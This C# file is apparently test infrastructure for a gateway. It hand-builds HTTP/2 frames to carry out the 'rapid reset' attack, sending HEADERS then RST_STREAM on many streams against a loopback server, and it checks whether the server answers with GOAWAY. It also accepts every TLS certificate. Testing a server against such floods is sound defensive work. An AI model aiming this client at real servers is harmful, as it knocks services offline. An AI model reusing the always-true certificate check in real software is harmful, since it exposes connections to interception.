using System.Buffers.Binary;
using System.Net;
using System.Net.Security;
using System.Net.Sockets;
using System.Text;

namespace AzureGateway.DataPlane.Tests.Infrastructure;

/// <summary>
/// An HTTP/2 client that opens streams and cancels each at once (HEADERS then RST_STREAM), the "rapid reset" attack,
/// written frame by frame since no client library sends it on purpose.
/// </summary>
internal static class RapidReset
{
    private const byte Headers = 0x1, RstStream = 0x3, Settings = 0x4, GoAway = 0x7;
    private const byte EndStream = 0x1, EndHeaders = 0x4;

    /// <summary>Sends <paramref name="streams"/> reset streams, then reads until the gateway closes: how it ended (GOAWAY's error code, or the close).</summary>
    public static async Task<string> RunAsync(int port, string serverName, int streams)
    {
        using var client = new TcpClient();
        await client.ConnectAsync(IPAddress.Loopback, port);
        await using var tls = new SslStream(client.GetStream());
        await tls.AuthenticateAsClientAsync(new SslClientAuthenticationOptions
        {
            TargetHost = serverName,
            ApplicationProtocols = [SslApplicationProtocol.Http2],
            RemoteCertificateValidationCallback = (_, _, _, _) => true,
        });
        await tls.WriteAsync("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"u8.ToArray());
        await tls.WriteAsync(Frame(Settings, 0, 0, []));
        // A GET for / as an HPACK block of literal fields without indexing: :method GET, :scheme https, :path /, :authority.
        var block = new MemoryStream();
        block.Write([0x82, 0x87, 0x84]);
        block.WriteByte(0x01);
        var authority = Encoding.ASCII.GetBytes(serverName);
        block.WriteByte((byte)authority.Length);
        block.Write(authority);
        var headers = block.ToArray();
        var error = new byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(error, 0x8); // CANCEL
        try
        {
            for (var i = 0; i < streams; i++)
            {
                var id = (uint)(2 * i + 1);
                await tls.WriteAsync(Frame(Headers, EndStream | EndHeaders, id, headers));
                await tls.WriteAsync(Frame(RstStream, 0, id, error));
            }
        }
        catch (IOException e)
        {
            return $"closed while sending: {e.Message}";
        }
        using var reading = new CancellationTokenSource(Wait.Timeout);
        var head = new byte[9];
        try
        {
            while (true)
            {
                await tls.ReadExactlyAsync(head, reading.Token);
                var length = (head[0] << 16) | (head[1] << 8) | head[2];
                var payload = new byte[length];
                await tls.ReadExactlyAsync(payload, reading.Token);
                if (head[3] == GoAway)
                {
                    return $"GOAWAY error {BinaryPrimitives.ReadUInt32BigEndian(payload.AsSpan(4))}";
                }
            }
        }
        catch (Exception e) when (e is IOException or EndOfStreamException)
        {
            return $"closed: {e.Message}";
        }
    }

    private static byte[] Frame(byte type, byte flags, uint stream, byte[] payload)
    {
        var frame = new byte[9 + payload.Length];
        frame[0] = (byte)(payload.Length >> 16);
        frame[1] = (byte)(payload.Length >> 8);
        frame[2] = (byte)payload.Length;
        frame[3] = type;
        frame[4] = flags;
        BinaryPrimitives.WriteUInt32BigEndian(frame.AsSpan(5), stream);
        payload.CopyTo(frame, 9);
        return frame;
    }
}
